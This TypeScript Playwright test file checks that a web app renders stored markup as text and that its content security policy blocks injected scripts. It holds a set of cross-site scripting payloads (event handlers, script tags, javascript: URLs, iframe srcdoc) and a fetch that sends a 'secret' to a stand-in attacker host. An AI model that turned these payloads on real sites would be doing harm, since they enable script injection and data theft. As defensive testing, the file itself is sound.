/** What people enter is text wherever it shows, and the page runs no script but its own. */
import * as z from 'zod/mini';
import { PlanPage } from './pages/plan-page.ts';
import { accessToken, type Seat } from './pages/seat.ts';
import { INSPECTOR, TENANT_ADMIN, expect, test } from './plumbline-test.ts';

/** Each in at most the room that a name has; together every way by which markup becomes code. */
const NAMES = {
  project: `<img src=x onerror="window.ran=1"><svg onload=window.ran=1>{{name}}$t(common:retry)`,
  group: `"><script>window.ran=1</script><a href="javascript:window.ran=1">go</a>`,
  zone: `</textarea><iframe srcdoc="<script>parent.ran=1</script>">`,
  view: `'-window.ran=1-'</style><img src onerror=window.ran=1>`,
};
const ADDRESS = [
  '<body onpageshow=window.ran=1><details open ontoggle=window.ran=1>x</details>',
  '<object data="javascript:window.ran=1"></object><embed src="data:text/html,x">',
  '<style>@import "javascript:window.ran=1"</style><base href="//evil.example/">',
  'javascript:window.ran=1//%0A\u202e\u2066',
].join(' ');

const RecordSchema = z.object({ data: z.object({ id: z.string(), version: z.optional(z.number()) }) });

/** What the answer says of the record; of a saved view there is no version. */
async function post(seat: Seat, url: string, data: object) {
  const headers = { authorization: `Bearer ${await accessToken(seat)}` };
  const answer = await seat.context.request.post(url, { data, headers });
  expect([url, answer.status()]).toEqual([url, 200]);
  return RecordSchema.parse(await answer.json()).data;
}

test('F115: markup in every field is text on every screen, left to right and right to left', async ({
  enter,
  demo,
}) => {
  const admin = await enter(TENANT_ADMIN);
  await admin.page.goto('/project/list');
  const group = await post(admin, '/api/core/group', { name: NAMES.group });
  const project = await post(admin, '/api/core/project', {
    name: NAMES.project,
    address: ADDRESS,
    groupId: group.id,
    timeZone: 'Europe/Berlin',
    area: null,
    areaUnit: 'm2',
    startDate: null,
    endDate: null,
  });
  await post(admin, '/api/core/view', { list: 'members', name: NAMES.view, query: 'systemRole=10' });
  const ana = await new PlanPage(await enter(INSPECTOR), demo.upper).open();
  await ana.drawRectangle(NAMES.zone, { x: 2000, y: 2250 }, { x: 2200, y: 2400 });
  await expect(ana.chip('saved')).toBeVisible();

  const home = `/project/home?projectId=${project.id}`;
  for (const [language, pages] of [
    [
      'en',
      {
        '/project/list': [NAMES.project],
        [home]: [NAMES.project, ADDRESS],
        '/project/groups': [NAMES.group],
        '/project/members': [NAMES.view],
        [`/project/home?projectId=${demo.projectId}`]: [NAMES.zone],
      },
    ],
    ['ar', { [home]: [NAMES.project, ADDRESS] }],
  ] as const) {
    const { page } = await enter(TENANT_ADMIN, { language });
    for (const [path, texts] of Object.entries(pages)) {
      await page.goto(path);
      for (const text of texts) await expect(page.getByText(text).first()).toBeVisible();
      expect([path, await page.evaluate(() => Reflect.get(window, 'ran'))]).toEqual([path, undefined]);
      expect(page.frames()).toHaveLength(1);
    }
  }
  await ana.select(NAMES.zone);
  await ana.canvas.focus();
  await ana.seat.page.keyboard.press('Delete');
  await expect(ana.row(NAMES.zone)).toHaveCount(0);
  await expect(ana.chip('saved')).toBeVisible();
  await post(admin, `/api/core/project/${project.id}/close`, { version: project.version });
});

test('F116: a script that somebody got into the page does not run', async ({ browser, baseURL }) => {
  // A browser of its own: what it complains of is what is wanted here.
  const context = await browser.newContext({ ...(baseURL && { baseURL }), serviceWorkers: 'block' });
  const page = await context.newPage();
  await page.goto('/login');
  const outcome = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const attempt = (work: () => void): boolean => {
      try {
        work();
        return true;
      } catch {
        return false;
      }
    };
    const add = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    };
    const passed = {
      markup: attempt(() => (document.body.innerHTML += '<img src=x onerror="window.ran=1">')),
      inline: attempt(() => {
        const script = document.createElement('script');
        script.textContent = 'window.ran=1';
        document.body.append(script);
      }),
      handler: attempt(() => add('img', { src: 'x:', onerror: 'window.ran=1' })),
    };
    attempt(() => add('iframe', { src: 'https://evil.example/' }));
    attempt(() => add('object', { data: 'https://evil.example/x' }));
    const sent = await fetch('https://evil.example/?secret').then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: Reflect.get(window, 'ran'), passed, sent, blocked };
  });
  await context.close();
  expect(outcome).toMatchObject({ passed: { markup: false, inline: false }, sent: false });
  expect(outcome.ran).toBeUndefined();
  expect(outcome.blocked).toEqual(expect.arrayContaining(['connect-src', 'require-trusted-types-for']));
});
